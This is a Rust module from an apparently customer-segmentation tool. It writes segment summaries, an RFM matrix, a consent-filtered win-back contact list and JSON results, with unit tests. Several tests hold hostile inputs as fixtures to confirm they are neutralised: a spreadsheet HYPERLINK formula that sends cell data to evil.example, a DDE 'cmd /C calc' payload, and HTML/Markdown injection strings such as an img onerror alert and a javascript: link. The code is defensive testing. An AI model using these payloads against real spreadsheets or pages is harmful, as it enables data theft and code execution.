                "revenue_share": if hide { None } else { share(s.profile.revenue, r.base.revenue).map(|v| round(v, 3)) },
                "suppressed": hide,
                "profile": profile_json(&s.profile, hide),
            })
        })
        .collect();
    // A base of fewer purchasers than the minimum is withheld whole: its net revenue too.
    let hide_base = r.base.customers < r.params.min_group_size;
    json!({
        "as_of": r.params.as_of.to_string(),
        "money_unit": r.money_unit,
        "min_group_size": r.params.min_group_size,
        "base": {
            "customers": r.base.customers,
            "revenue": if hide_base { None } else { Some(round(r.base.revenue, 2)) },
            "profile": profile_json(r.base, hide_base),
        },
        "segments": segments,
    })
}

/// The profile figures of a segment row: column, and decimals (segments.csv prints them so, and
/// segments.parquet holds them rounded so).
const SEGMENT_FIGURES: [(&str, usize); 7] = [
    ("median_recency_days", 1),
    ("median_frequency", 1),
    ("median_monetary", 2),
    ("median_avg_order_value", 2),
    ("return_rate", 3),
    ("multi_item_share", 3),
    ("new_share", 3),
];
const SEGMENT_TEXTS: [&str; 3] = ["top_country", "top_city", "top_rfm_group"];
/// Decimals of `share` and `revenue_share`.
const SHARE_DECIMALS: usize = 3;

/// The columns of `segments.csv` and `segments.parquet`, with the Parquet types. Figures a
/// segment withholds, and revenue shares when the base's net revenue is not positive, are empty
/// cells in the CSV and nulls in the Parquet.
pub(super) fn segments_schema() -> SchemaRef {
    let mut fields = vec![
        // int, as segment_id in customers.parquet.
        Field::new("segment_id", DataType::Int32, false),
        Field::new("segment_name", DataType::Utf8, false),
        Field::new("description", DataType::Utf8, false),
        Field::new("customers", DataType::Int64, false),
        Field::new("share", DataType::Float64, true),
        Field::new("revenue_share", DataType::Float64, true),
        Field::new("suppressed", DataType::Boolean, false),
    ];
    fields.extend(
        SEGMENT_FIGURES
            .iter()
            .map(|(n, _)| Field::new(*n, DataType::Float64, true)),
    );
    fields.extend(SEGMENT_TEXTS.iter().map(|n| Field::new(*n, DataType::Utf8, true)));
    Arc::new(Schema::new(fields))
}

/// One row of the segment summary, before formatting: the CSV prints the figures with their
/// decimals, the Parquet holds them rounded to the same digits.
struct SummaryRow<'a> {
    s: &'a SegmentOut,
    share: Option<f64>,
    revenue_share: Option<f64>,
    figures: [Option<f64>; SEGMENT_FIGURES.len()],
    texts: [Option<&'a str>; SEGMENT_TEXTS.len()],
}

fn summary_rows<'a>(r: &'a Report) -> Vec<SummaryRow<'a>> {
    r.segments
        .iter()
        .map(|s| {
            let p = &s.profile;
            let hide = s.withheld;
            let shown = |v: Option<f64>| if hide { None } else { v };
            let text = |v: &'a Option<String>| if hide { None } else { v.as_deref() };
            SummaryRow {
                s,
                share: share(p.customers as f64, r.base.customers as f64),
                revenue_share: shown(share(p.revenue, r.base.revenue)),
                figures: [
                    p.median_recency_days,
                    p.median_frequency,
                    p.median_monetary,
                    p.median_avg_order_value,
                    p.return_rate,
                    p.multi_item_share,
                    p.new_share,
                ]
                .map(shown),
                texts: [&p.top_country, &p.top_city, &p.top_rfm_group].map(text),
            }
        })
        .collect()
}

pub(super) fn write_segments_csv(r: &Report, path: &Path) -> Result<(), SegmentError> {
    let mut w = csv_writer(path)?;
    let schema = segments_schema();
    csv_row(path, &mut w, schema.fields().iter().map(|f| f.name().as_str()))?;
    for row in summary_rows(r) {
        let s = row.s;
        let mut cells = vec![
            s.id.to_string(),
            s.name.clone(),
            s.description.clone(),
            s.profile.customers.to_string(),
            opt_fixed(row.share, SHARE_DECIMALS),
            opt_fixed(row.revenue_share, SHARE_DECIMALS),
            s.withheld.to_string(),
        ];
        cells.extend(
            row.figures
                .iter()
                .zip(SEGMENT_FIGURES)
                .map(|(v, (_, d))| opt_fixed(*v, d)),
        );
        cells.extend(row.texts.iter().map(|t| t.unwrap_or_default().to_string()));
        csv_row(path, &mut w, &cells)?;
    }
    csv_finish(path, w)
}

/// `segments.csv` as typed Parquet, for Athena: the same columns and values, with nulls where the
/// CSV has empty cells (Athena's CSV reader fails on an empty number).
pub(super) fn write_segments_parquet(r: &Report, path: &Path) -> Result<(), SegmentError> {
    let schema = segments_schema();
    let rows = summary_rows(r);
    let n = rows.len();
    let mut id = Int32Builder::with_capacity(n);
    let (mut name, mut description) = (StringBuilder::new(), StringBuilder::new());
    let mut customers = Int64Builder::with_capacity(n);
    let (mut share_b, mut revenue_share) = (Float64Builder::new(), Float64Builder::new());
    let mut suppressed = BooleanBuilder::with_capacity(n);
    let mut figures: Vec<Float64Builder> = SEGMENT_FIGURES.iter().map(|_| Float64Builder::new()).collect();
    let mut texts: Vec<StringBuilder> = SEGMENT_TEXTS.iter().map(|_| StringBuilder::new()).collect();
    let rounded = |v: Option<f64>, d: usize| v.map(|v| round(v, d as i32));
    for row in &rows {
        let s = row.s;
        id.append_value(i32::try_from(s.id).unwrap_or(i32::MAX));
        name.append_value(&s.name);
        description.append_value(&s.description);
        customers.append_value(i64::try_from(s.profile.customers).unwrap_or(i64::MAX));
        share_b.append_option(rounded(row.share, SHARE_DECIMALS));
        revenue_share.append_option(rounded(row.revenue_share, SHARE_DECIMALS));
        suppressed.append_value(s.withheld);
        for ((b, v), (_, d)) in figures.iter_mut().zip(row.figures).zip(SEGMENT_FIGURES) {
            b.append_option(rounded(v, d));
        }
        for (b, t) in texts.iter_mut().zip(row.texts) {
            b.append_option(t);
        }
    }
    let mut columns: Vec<ArrayRef> = vec![
        Arc::new(id.finish()),
        Arc::new(name.finish()),
        Arc::new(description.finish()),
        Arc::new(customers.finish()),
        Arc::new(share_b.finish()),
        Arc::new(revenue_share.finish()),
        Arc::new(suppressed.finish()),
    ];
    columns.extend(figures.iter_mut().map(|b| Arc::new(b.finish()) as ArrayRef));
    columns.extend(texts.iter_mut().map(|b| Arc::new(b.finish()) as ArrayRef));
    let batch = RecordBatch::try_new(schema.clone(), columns)?;
    let file = File::create(path).map_err(|e| io_err(path, e))?;
    let mut w = ArrowWriter::try_new(file, schema, Some(crate::ingest::writer::writer_properties()))?;
    w.write(&batch)?;
    w.close()?;
    Ok(())
}

pub(super) fn write_rfm_matrix(r: &Report, path: &Path) -> Result<(), SegmentError> {
    let mut cells = [[(0usize, 0.0f64); 5]; 5];
    for c in r.customers {
        if let (Some(rfm), Some(b)) = (c.rfm, &c.behaviour) {
            let cell = &mut cells[usize::from(rfm.r - 1)][usize::from(rfm.f - 1)];
            cell.0 += 1;
            cell.1 += b.monetary;
        }
    }
    let sizes: Vec<usize> = cells.iter().flatten().map(|c| c.0).collect();
    let hide = withheld(&sizes, r.params.min_group_size);
    let mut w = csv_writer(path)?;
    csv_row(path, &mut w, ["r", "f", "rfm_group", "customers", "avg_monetary"])?;
    for rs in 1..=5u8 {
        for fs in 1..=5u8 {
            let (n, sum) = cells[usize::from(rs - 1)][usize::from(fs - 1)];
            let group = super::rfm::group_of(r.rules(), rs, fs).map_or("", |g| r.rules()[g].name.as_str());
            let avg = if n == 0 || hide[usize::from(rs - 1) * 5 + usize::from(fs - 1)] {
                String::new()
            } else {
                fixed(sum / n as f64, 2)
            };
            csv_row(
                path,
                &mut w,
                [
                    rs.to_string(),
                    fs.to_string(),
                    group.to_string(),
                    n.to_string(),
                    avg,
                ],
            )?;
        }
    }
    csv_finish(path, w)
}

/// Lapsed customers worth winning back, without those who refused marketing. Customers who
/// return a large share of what they buy are the negative-value profile's, not worth a campaign
/// however much they once bought.
pub(super) fn winback<'a>(r: &'a Report) -> Vec<&'a Customer> {
    // Spend compared as the M score ranks it: 0.1 + 0.2 and 0.3 are one value, so a customer
    // exactly at the median is not left out, nor ordered apart, by the last bits of a sum.
    let m = |c: &Customer| c.behaviour.as_ref().map_or(0.0, |b| rank_value(b.monetary));
    let median = rank_value(r.median_monetary);
    let mut list: Vec<&Customer> = r
        .customers
        .iter()
        .filter(|c| c.stage == Stage::Lapsed)
        .filter(|c| {
            c.behaviour
                .as_ref()
                .is_some_and(|b| b.return_rate < super::icp::NEGATIVE_RETURN_RATE)
                && m(c) >= median
        })
        .filter(|c| c.attrs.and_then(|a| a.marketing_consent) != Some(false))
        .collect();
    // Customers are already in id order and the sort is stable: equal spend stays in id order.
    list.sort_by(|a, b| m(b).total_cmp(&m(a)));
    list
}

/// A win-back row: the customer and the addresses the list carries.
pub(super) struct WinbackRow<'a> {
    pub customer: &'a Customer,
    pub email: Option<&'a str>,
    pub phone: Option<&'a str>,
}

/// The win-back list's rows with their addresses (see [`super::activation::ListAddresses`]):
/// a customer whose every address is left out (shared, invalid, or on a more valuable row
/// already) cannot be contacted and is dropped; one who never had an address stays, for the
/// shop to look up by id. Returns the rows, the addresses left out and how many were dropped.
pub(super) fn winback_rows<'a>(
    r: &Report<'a>,
    list: &[&'a Customer],
    shared: &BTreeSet<String>,
) -> (Vec<WinbackRow<'a>>, super::activation::Blanked, usize) {
    let mut addresses = super::activation::ListAddresses::new(shared);
    let mut rows = Vec::with_capacity(list.len());
    let mut dropped = 0;
    for &c in list {
        let (email, phone) = (r.email(c), r.phone(c));
        let had = email.is_some() || phone.is_some();
        let (email, phone) = (addresses.email(email), addresses.phone(phone));
        if had && email.is_none() && phone.is_none() {
            dropped += 1;
            continue;
        }
        rows.push(WinbackRow {
            customer: c,
            email,
            phone,
        });
    }
    (rows, addresses.blanked, dropped)
}

pub(super) fn write_winback(r: &Report, list: &[WinbackRow], path: &Path) -> Result<(), SegmentError> {
    let mut w = csv_writer(path)?;
    csv_row(
        path,
        &mut w,
        [
            "customer_id",
            "last_purchase",
            "recency_days",
            "frequency",
            "monetary",
            "rfm_group",
            "segment_name",
            "email",
            "phone",
        ],
    )?;
    for l in list {
        let row = r.row(l.customer);
        let b = row.b.expect("win-back customers have purchases");
        csv_row(
            path,
            &mut w,
            [
                row.customer_id.to_string(),
                date_str(b.last_day),
                fixed(b.recency_days, 1),
                b.frequency.to_string(),
                fixed(b.monetary, 2),
                row.rfm_group.unwrap_or_default().to_string(),
                row.segment.map(|s| s.name.clone()).unwrap_or_default(),
                l.email.unwrap_or_default().to_string(),
                l.phone
                    .map(crate::values::dialable)
                    .unwrap_or_default()
                    .to_string(),
            ],
        )?;
    }
    csv_finish(path, w)
}

pub(super) fn write_json(path: &Path, value: &Value) -> Result<(), SegmentError> {
    let mut bytes = serde_json::to_vec_pretty(&Written(value))?;
    bytes.push(b'\n');
    std::fs::write(path, bytes).map_err(|e| io_err(path, e))
}

/// A JSON value as the result files write it. serde_json's objects order their keys as text,
/// which puts a `k` or segment id of 10 before 2 (`silhouette_by_k`); an object whose keys are
/// all whole numbers is written in numeric order instead, as people read it. Only the order of
/// the text changes: the value, and a reader's view of it, are the same.
struct Written<'a>(&'a Value);

impl serde::Serialize for Written<'_> {
    fn serialize<S: serde::Serializer>(&self, s: S) -> Result<S::Ok, S::Error> {
        use serde::ser::SerializeMap;
        match self.0 {
            Value::Object(map) => {
                let mut entries: Vec<(&String, &Value)> = map.iter().collect();
                if entries.iter().all(|(k, _)| is_whole_number(k)) {
                    // Without leading zeros, a shorter number is the smaller one.
                    entries.sort_by(|a, b| (a.0.len(), a.0).cmp(&(b.0.len(), b.0)));
                }
                let mut m = s.serialize_map(Some(entries.len()))?;
                for (k, v) in entries {
                    m.serialize_entry(k, &Written(v))?;
                }
                m.end()
            }
            Value::Array(items) => s.collect_seq(items.iter().map(Written)),
            other => other.serialize(s),
        }
    }
}

/// `0`, `7`, `10`; not `07`, `-1`, `1.5` or the empty key, which keep the text order.
fn is_whole_number(k: &str) -> bool {
    !k.is_empty() && k.bytes().all(|b| b.is_ascii_digit()) && (k == "0" || !k.starts_with('0'))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn json_objects_keyed_by_numbers_are_written_in_numeric_order() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("m.json");
        let value = json!({
            "b": {"10": 0.5, "2": 0.1, "3": null, "9": [{"11": 1, "1": 2}]},
            "a": {"10": 1, "2": 2, "x": 3},
            "c": {"07": 1, "10": 2, "2": 3},
        });
        write_json(&path, &value).unwrap();
        let text = std::fs::read_to_string(&path).unwrap();
        let compact: String = text.split_whitespace().collect();
        assert_eq!(
            compact,
            concat!(
                r#"{"a":{"10":1,"2":2,"x":3},"#,
                r#""b":{"2":0.1,"3":null,"9":[{"1":2,"11":1}],"10":0.5},"#,
                r#""c":{"07":1,"10":2,"2":3}}"#
            ),
            "{text}"
        );
        // The same value read back.
        assert_eq!(serde_json::from_str::<Value>(&text).unwrap(), value);
    }

    #[test]
    fn cells_a_spreadsheet_would_run_as_formulas_get_an_apostrophe() {
        let safe = |s: &str| String::from_utf8(spreadsheet_safe(s.as_bytes()).into_owned()).unwrap();
        for (cell, written) in [
            (
                "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
                "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
            ),
            ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
            ("+CEO", "'+CEO"),
            ("-A1", "'-A1"),
            ("-1+1", "'-1+1"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("=1", "'=1"),
            // Numbers, phone numbers and ordinary text as they are.
            ("-12.50", "-12.50"),
            ("+989121234567", "+989121234567"),
            ("+1 (415) 555-2106", "+1 (415) 555-2106"),
            ("-", "-"),
            ("CEO", "CEO"),
            ("a=b", "a=b"),
            ("مدیر عامل", "مدیر عامل"),
            ("", ""),
        ] {
            assert_eq!(safe(cell), written, "{cell:?}");
        }
    }

    /// Rows as the csv crate's default writer writes them, after [`spreadsheet_safe`].
    #[test]
    fn csv_rows_are_written_as_the_csv_crate_writes_them() {
        let rows: Vec<Vec<&str>> = vec![
            vec!["id", "name", "note"],
            vec!["1", "plain", ""],
            vec!["2", "a,b", "say \"hi\""],
            vec!["3", "line\nbreak", "cr\rhere"],
            vec!["4", "\"", ",", "\r\n"],
            vec!["5", "=HYPERLINK(\"x\")", "-12.50", "+989121234567", "@x, y"],
            vec!["6", "تهران، ونک", "مدیر «فروش»", "tab\there"],
            vec!["", "", ""],
            vec![""],
            vec!["only"],
            vec![],
        ];
        let mut ours = Vec::new();
        let mut theirs = csv::WriterBuilder::new().flexible(true).from_writer(Vec::new());
        for row in &rows {
            push_csv_row(&mut ours, row);
            let safe: Vec<Vec<u8>> = row
                .iter()
                .map(|f| spreadsheet_safe(f.as_bytes()).into_owned())
                .collect();
            theirs.write_record(&safe).unwrap();
        }
        assert_eq!(
            String::from_utf8(ours).unwrap(),
            String::from_utf8(theirs.into_inner().unwrap()).unwrap()
        );
        // A NUL byte kept from an upload is left out of the field, however it is placed, and
        // hides no formula.
        let mut line = Vec::new();
        push_csv_row(&mut line, ["L\0=1+1#46", "\0", "a,\0b", "\0=HYPERLINK(1)"]);
        assert_eq!(line, b"L=1+1#46,,\"a,b\",'=HYPERLINK(1)\n");
    }

    #[test]
    fn values_in_the_markdown_open_no_html_link_or_image() {
        for (value, written) in [
            ("<img src=x onerror=alert(1)>", "\\<img src=x onerror=alert(1)\\>"),
            (
                "[click me](javascript:alert(1))",
                "\\[click me\\](javascript:alert(1))",
            ),
            (
                "![px](http://evil.example/pixel.png) | col",
                "\\!\\[px\\](http\\://evil.example/pixel.png) \\| col",
            ),
            (
                "*bold* _it_ `code` ~x~ a\\b",
                "\\*bold\\* \\_it\\_ \\`code\\` \\~x\\~ a\\\\b",
            ),
            ("CEO\n# Heading\r\n- item", "CEO # Heading  - item"),
            // Addresses GitHub's Markdown would link by themselves.
            ("https://evil.example/login", "https\\://evil.example/login"),
            ("Visit WWW.evil.example now", "Visit WWW\\.evil.example now"),
            ("the www. prefix in fewwww.x", "the www\\. prefix in fewwww.x"),
            ("mailto:bob+x@evil.example", "mailto:bob+x@\u{200B}evil.example"),
            // A dot three bytes after the start of a multi-byte character: a band of the
            // profile ("average order 53.57–64.") made the run panic.
            ("average order 53.57–64.", "average order 53.57–64."),
            ("–.", "–."),
            ("تهران.www.x", "تهران.www\\.x"),
            ("تهران www.x", "تهران www\\.x"),
            // Ordinary values stay as they are.
            ("R&D Manager", "R&D Manager"),
            ("Frankfurt (Oder)", "Frankfurt (Oder)"),
            ("مدیر عامل", "مدیر عامل"),
            ("", ""),
        ] {
            assert_eq!(markdown_safe(value), written, "{value:?}");
        }
    }

    #[test]
    fn row_buffer_fields_match_the_string_helpers() {
        let mut f = RowBuf::default();
        for _ in 0..2 {
            f.clear();
            f.text(Some("a,b"));
            f.text(None);
            f.display(Some(545));
            f.display(None::<u8>);
            f.int(Some(-17i64));
            f.int(None::<u32>);
            f.date(Some(19_723));
            f.date(None);
            f.fixed(Some(-0.001), 2);
            f.fixed(Some(-1.25), 1);
            f.fixed(None, 1);
            let fields: Vec<&str> = f.fields().collect();
            assert_eq!(
                fields,
                [
                    "a,b",
                    "",
                    "545",
                    "",
                    "-17",
                    "",
                    "2024-01-01",
                    "",
                    &fixed(-0.001, 2),
                    &fixed(-1.25, 1),
                    ""
                ]
            );
        }
    }

    #[test]
    fn fast_decimals_match_exact_formatting() {
        let exact = |v: f64, d: usize| {
            let s = format!("{v:.d$}");
            if s.starts_with('-') && s[1..].bytes().all(|b| b == b'0' || b == b'.') {
                s[1..].to_string()
            } else {
                s
            }
        };
        // Ties and near-ties in binary, negatives, zeros, large values and non-finite values,
        // then pseudo-random values over many magnitudes (fixed seed).
        let mut values = vec![
            0.0,
            -0.0,
            0.5,
            1.5,
            2.5,
            -2.5,
            0.125,
            0.375,
            1.005,
            2.675,
            -1.005,
            0.045,
            1e-9,
            -1e-9,
            999_999.995,
            1e8,
            123_456_789.5,
            1e12,
            f64::NAN,
            f64::INFINITY,
            f64::NEG_INFINITY,
            f64::MIN_POSITIVE,
            4.35,
            0.0005,
            0.0015,
            17.25,
            99.95,
        ];
        let mut state = 0x9E37_79B9_7F4A_7C15u64;
        for _ in 0..200_000 {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            let mantissa = (state >> 11) as f64 / (1u64 << 53) as f64;
            let exp = (state % 19) as i32 - 6;
            let v = mantissa * 10f64.powi(exp) * if state & 1 == 0 { 1.0 } else { -1.0 };
            values.push(v);
            // Values on a cent or half-cent grid, as money amounts are.
            values.push((state % 2_000_000) as f64 / 200.0);
        }
        let mut fast_used = 0;
        for &v in &values {
            for d in 0..=3 {
                let mut s = String::new();
                fast_used += usize::from(push_fixed_fast(&mut s, v, d));
                let mut all = String::new();
                push_fixed(&mut all, v, d);
                assert_eq!(all, exact(v, d), "{v:e} with {d} decimals");
                if !s.is_empty() {
                    assert_eq!(s, all, "{v:e} with {d} decimals");
                }
            }
        }
        assert!(fast_used > values.len() * 3, "the fast path is the common one");
    }

    #[test]
    fn dates_print_as_chrono_does() {
        // Includes leap days, the epoch, days before it and years chrono prints with a sign.
        for days in [
            -719_528, -1, 0, 59, 789, 11_016, 19_782, 2_932_896, 2_932_897, -719_529,
        ] {
            assert_eq!(
                date_str(days),
                from_epoch_days(days).format("%Y-%m-%d").to_string(),
                "{days}"
            );
        }
    }

    #[test]
    fn fixed_never_prints_negative_zero() {
        assert_eq!(fixed(-0.001, 2), "0.00");
        assert_eq!(fixed(-0.0, 1), "0.0");
        assert_eq!(fixed(-1.005, 1), "-1.0");
        assert_eq!(fixed(2.5, 3), "2.500");
        assert_eq!(round(-0.0004, 3), 0.0);
    }

    #[test]
    fn json_rounding_agrees_with_the_printed_figures() {
        // A median of 103.16499… (just under the tie): scaling by 100 first rounds the product
        // up to 10316.5, so the JSON said 103.17 where the Markdown said 103.16.
        let v = 103.165_f64.next_down();
        assert_eq!((round(v, 2), fixed(v, 2).as_str()), (103.16, "103.16"));
        for (v, d) in [
            (103.165, 2),
            (1.005, 2),
            (2.675, 2),
            (0.1235, 3),
            (-7.45, 1),
            (1e15 + 0.5, 0),
        ] {
            assert_eq!(round(v, d), fixed(v, d as usize).parse::<f64>().unwrap(), "{v}");
        }
    }
}
